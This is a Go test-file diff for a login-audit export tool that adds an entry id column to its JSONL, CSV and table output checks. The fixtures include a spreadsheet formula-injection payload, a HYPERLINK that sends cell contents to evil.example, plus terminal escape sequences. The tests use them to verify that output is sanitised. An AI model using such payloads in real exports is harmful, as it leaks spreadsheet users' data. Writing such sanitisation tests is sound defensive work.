@@ -47,7 +47,8 @@ func TestRun_jsonl_keyOrder(t *testing.T) {
 		Type: riskcloud.LoginFail, Timestamp: testEnd})
 
 	res := harness{env: tokenEnv(srv)}.run(t, "failures")
-	want := `{"type":"LoginFail","timestamp":"2026-11-01T08:00:00.500Z","message":"Bad <credentials> & more","remoteAddress":"192.0.2.7","email":null}` + "\n"
+	want := `{"type":"LoginFail","timestamp":"2026-11-01T08:00:00.500Z","message":"Bad <credentials> & more","remoteAddress":"192.0.2.7","email":null,"id":"` +
+		servedID(srv, 0) + `"}` + "\n"
 	if res.code != exitOK || res.stdout != want {
 		t.Errorf("exit %d, stdout\n%s\nwant\n%s", res.code, res.stdout, want)
 	}
@@ -70,12 +71,13 @@ func TestRun_csv(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
+	served := srv.Entries() // newest first: failure, failure, login, failure, login, failure
 	want := [][]string{
-		{"timestamp", "type", "remote_address", "message", "email"},
-		{"2026-11-01T12:00:00.000Z", "LoginFail", "'+1", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, ""},
-		{"2026-11-01T11:59:00.000Z", "LoginFail", "'-2+3", "'@SUM(1+1)", ""},
-		{"2026-11-01T10:59:00.000Z", "LoginFail", "198.51.100.2", "Bad credentials", ""},
-		{"2026-11-01T10:57:00.000Z", "LoginFail", "198.51.100.4", "Bad credentials", ""},
+		{"timestamp", "type", "remote_address", "message", "email", "id"},
+		{"2026-11-01T12:00:00.000Z", "LoginFail", "'+1", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "", riskcloud.EntryID(served[0], 0)},
+		{"2026-11-01T11:59:00.000Z", "LoginFail", "'-2+3", "'@SUM(1+1)", "", riskcloud.EntryID(served[1], 0)},
+		{"2026-11-01T10:59:00.000Z", "LoginFail", "198.51.100.2", "Bad credentials", "", riskcloud.EntryID(served[3], 0)},
+		{"2026-11-01T10:57:00.000Z", "LoginFail", "198.51.100.4", "Bad credentials", "", riskcloud.EntryID(served[5], 0)},
 	}
 	if len(rows) != len(want) {
 		t.Fatalf("got %d rows, want %d:\n%s", len(rows), len(want), res.stdout)
@@ -97,7 +99,8 @@ func TestRun_jsonl_nonGraphicEscaped(t *testing.T) {
 	srv.Add(riskcloud.Entry{Type: riskcloud.LoginFail, Timestamp: testEnd, Message: msg, RemoteAddress: "10.0.0.1\u202e\x1b[2J"})
 
 	res := harness{env: tokenEnv(srv)}.run(t, "--format", "jsonl", "failures")
-	want := `{"type":"LoginFail","timestamp":"2026-11-01T12:00:00.000Z","message":"\u009b2J\u009d0;evil\u009cBad\u007f\u200e credentials\u2066","remoteAddress":"10.0.0.1\u202e\u001b[2J","email":null}` + "\n"
+	want := `{"type":"LoginFail","timestamp":"2026-11-01T12:00:00.000Z","message":"\u009b2J\u009d0;evil\u009cBad\u007f\u200e credentials\u2066","remoteAddress":"10.0.0.1\u202e\u001b[2J","email":null,"id":"` +
+		servedID(srv, 0) + `"}` + "\n"
 	if res.code != exitOK || res.stdout != want {
 		t.Fatalf("exit %d, stdout\n%s\nwant\n%s", res.code, res.stdout, want)
 	}
@@ -119,13 +122,13 @@ func TestRun_csv_terminal(t *testing.T) {
 		stdoutTTY bool
 		want      string
 	}{
-		{"terminal", true, "2026-11-01T12:00:00.000Z,LoginFail,'=1+1,Bad credentials,\n"},
-		{"file", false, "2026-11-01T12:00:00.000Z,LoginFail,'=1+1,Bad credentials,\n"},
+		{"terminal", true, "2026-11-01T12:00:00.000Z,LoginFail,'=1+1,Bad credentials,," + servedID(srv, 0) + "\n"},
+		{"file", false, "2026-11-01T12:00:00.000Z,LoginFail,'=1+1,Bad credentials,," + servedID(srv, 0) + "\n"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
 			res := harness{env: tokenEnv(srv), stdoutTTY: tt.stdoutTTY}.run(t, "--format", "csv", "failures")
-			want := "timestamp,type,remote_address,message,email\n" + tt.want
+			want := "timestamp,type,remote_address,message,email,id\n" + tt.want
 			if res.code != exitOK || res.stdout != want {
 				t.Errorf("exit %d, stdout %q, want %q", res.code, res.stdout, want)
 			}
@@ -137,7 +140,7 @@ func TestRun_csv_emptyHasHeader(t *testing.T) {
 	t.Parallel()
 	srv := newServer(t)
 	res := harness{env: tokenEnv(srv)}.run(t, "--format", "csv", "logins")
-	if res.code != exitOK || res.stdout != "timestamp,type,remote_address,message,email\n" {
+	if res.code != exitOK || res.stdout != "timestamp,type,remote_address,message,email,id\n" {
 		t.Errorf("exit %d, stdout %q", res.code, res.stdout)
 	}
 }
@@ -154,9 +157,9 @@ func TestRun_table(t *testing.T) {
 		t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
 	}
 	want := "" +
-		"TIMESTAMP                 TYPE       EMAIL              REMOTE ADDRESS                           MESSAGE\n" +
-		"2026-11-01T12:00:00.000Z  LoginFail  alice@example.com  10.0.0.1                                 Bad credentials  Injected line\n" +
-		"2026-11-01T11:59:59.000Z  Login      alice@example.com  2001:db8::1\n"
+		"ID                                TIMESTAMP                 TYPE       EMAIL              REMOTE ADDRESS                           MESSAGE\n" +
+		servedID(srv, 0) + "  2026-11-01T12:00:00.000Z  LoginFail  alice@example.com  10.0.0.1                                 Bad credentials  Injected line\n" +
+		servedID(srv, 1) + "  2026-11-01T11:59:59.000Z  Login      alice@example.com  2001:db8::1\n"
 	if res.stdout != want {
 		t.Errorf("stdout\n%q\nwant\n%q", res.stdout, want)
 	}
@@ -172,7 +175,7 @@ func TestRun_defaultFormat(t *testing.T) {
 		want      string
 	}{
 		{"pipe", false, `{"type":"Login",`},
-		{"terminal", true, "TIMESTAMP "},
+		{"terminal", true, "ID                                TIMESTAMP "},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -625,4 +628,10 @@ func TestParseSince(t *testing.T) {
 			t.Errorf("parseSince(%q) error %q does not name the flag", tt.in, err)
 		}
 	}
+}
+
+// servedID is the id of the server's i-th entry (newest first), which has
+// no identical twin.
+func servedID(srv *riskcloudtest.Server, i int) string {
+	return riskcloud.EntryID(srv.Entries()[i], 0)
 }
